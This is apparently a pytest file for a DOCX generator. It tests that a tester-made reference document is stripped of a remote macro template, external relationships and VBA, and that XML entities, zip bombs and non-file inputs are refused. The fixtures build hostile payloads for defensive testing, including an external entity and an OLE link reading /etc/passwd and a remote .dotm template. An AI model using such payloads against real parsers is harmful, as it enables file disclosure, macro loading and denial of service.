"""An office's reference document gives styles and nothing else; it is read with bounds.

Each case is a reference document a tester made: what it carried came out in every generated
DOCX (a remote template Word fetches on opening, external relationships, an XML entity), or
it hung the build or took gigabytes.
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, run_ikugen

SPEC = ROOT / "tests" / "bad_inputs" / "valid-base.yaml"
PACKAGED = ROOT / "templates" / "referensi.docx"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _altered(tmp_path: Path, name: str, change) -> Path:
    """The packaged reference document with `change(parts)` applied to its parts."""
    with zipfile.ZipFile(PACKAGED) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    change(parts)
    target = tmp_path / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for part, data in parts.items():
            out.writestr(part, data)
    return target


def _add_rel(parts: dict[str, bytes], rels: str, xml: str) -> None:
    parts[rels] = parts[rels].replace(b"</Relationships>", xml.encode() + b"</Relationships>")


def _parts_of(docx: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(docx) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_an_attached_template_and_external_relationships_are_not_copied(tmp_path):
    def change(parts):
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1)
        parts["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" '
            f'Type="{_REL}attachedTemplate" Target="http://contoh.invalid/makro.dotm" '
            'TargetMode="External"/></Relationships>').encode()
        _add_rel(parts, "word/_rels/document.xml.rels",
                 f'<Relationship Id="rIdX" Type="{_REL}hyperlink" Target="http://contoh.invalid/" '
                 'TargetMode="External"/>')
        _add_rel(parts, "_rels/.rels", f'<Relationship Id="rIdM" Type="{_REL}oleObject" '
                 'Target="file:///etc/passwd" TargetMode="External"/>')
        parts["word/vbaProject.bin"] = b"macro"

    reference = _altered(tmp_path, "acuan.docx", change)
    assert b"attachedTemplate" in _parts_of(reference)["word/settings.xml"]
    out = tmp_path / "IKU.docx"
    result = run_ikugen("build", SPEC, "-o", out, "--reference-doc", reference)
    assert result.returncode == 0, result.stderr
    parts = _parts_of(out)
    everything = b"".join(parts.values())
    assert b"attachedTemplate" not in everything
    assert b"TargetMode=\"External\"" not in everything and b"contoh.invalid" not in everything
    assert b"/etc/passwd" not in everything
    assert not [n for n in parts if "vba" in n.lower()]
    assert b"Heading1" in parts["word/styles.xml"] or b"Judul1" in parts["word/styles.xml"]


def test_a_reference_declaring_an_entity_is_refused(tmp_path):
    def change(parts):
        styles = parts["word/styles.xml"]
        head, _, body = styles.partition(b"?>")
        parts["word/styles.xml"] = (head + b'?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                    + body)

    reference = _altered(tmp_path, "entitas.docx", change)
    out = tmp_path / "IKU.docx"
    result = run_ikugen("build", SPEC, "-o", out, "--reference-doc", reference)
    assert result.returncode == 1
    assert f"dokumen acuan {reference} tidak dipakai: bagian word/styles.xml memuat DTD" in result.stderr
    assert not out.exists()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    def change(parts):
        parts["word/media/bom.png"] = b"\0" * (80 * 1024 * 1024)  # 80 MiB that pack to ~80 KiB

    reference = _altered(tmp_path, "bom.docx", change)
    assert reference.stat().st_size < 1024 * 1024
    result = run_ikugen("build", SPEC, "-o", tmp_path / "IKU.docx", "--reference-doc", reference)
    assert result.returncode == 1
    assert "isinya lebih dari 64 MiB setelah dibuka" in result.stderr


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_a_reference_that_is_not_a_file_does_not_hang(tmp_path, kind):
    if kind == "fifo":
        reference = tmp_path / "pipa.docx"
        os.mkfifo(reference)
    else:
        reference = tmp_path / "nol.docx"
        os.symlink("/dev/zero", reference)
    result = run_ikugen("build", SPEC, "-o", tmp_path / "IKU.docx", "--reference-doc", reference, timeout=30)
    assert result.returncode == 1
    assert "bukan berkas biasa (pipa, perangkat atau folder)" in result.stderr


def test_the_packaged_reference_gives_the_same_document(tmp_path):
    """Rebuilding the package from its allowed parts changes nothing for a clean reference."""
    from docx import Document

    from ikugen.writers.reference import read_reference

    plain, rebuilt = io.BytesIO(), io.BytesIO()
    Document(str(PACKAGED)).save(plain)
    Document(read_reference(PACKAGED)).save(rebuilt)
    assert _parts_of_bytes(plain.getvalue()) == _parts_of_bytes(rebuilt.getvalue())


def _parts_of_bytes(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}
